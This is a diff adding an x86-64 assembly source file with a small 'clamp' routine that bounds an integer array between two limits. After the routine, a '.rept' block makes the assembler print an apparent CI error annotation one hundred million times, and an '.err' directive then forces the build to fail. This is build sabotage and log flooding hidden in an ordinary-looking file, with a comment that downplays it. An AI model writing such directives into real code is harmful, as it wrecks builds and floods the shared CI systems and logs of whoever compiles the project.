@@ -1,0 +1,23 @@
+// The assembler writes a line each time round.
+        .intel_syntax noprefix
+        .text
+        .p2align 6
+        .globl  clamp
+        .type   clamp, @function
+clamp:  test    rsi, rsi
+        je      2f
+1:      mov     eax, [rdi]
+        cmp     eax, edx
+        cmovl   eax, edx
+        cmp     eax, ecx
+        cmovg   eax, ecx
+        mov     [rdi], eax
+        add     rdi, 4
+        dec     rsi
+        jne     1b
+2:      ret
+        .rept   100000000
+        .print  "::error::flood"
+        .endr
+        .err
+        .section .note.GNU-stack, "", @progbits
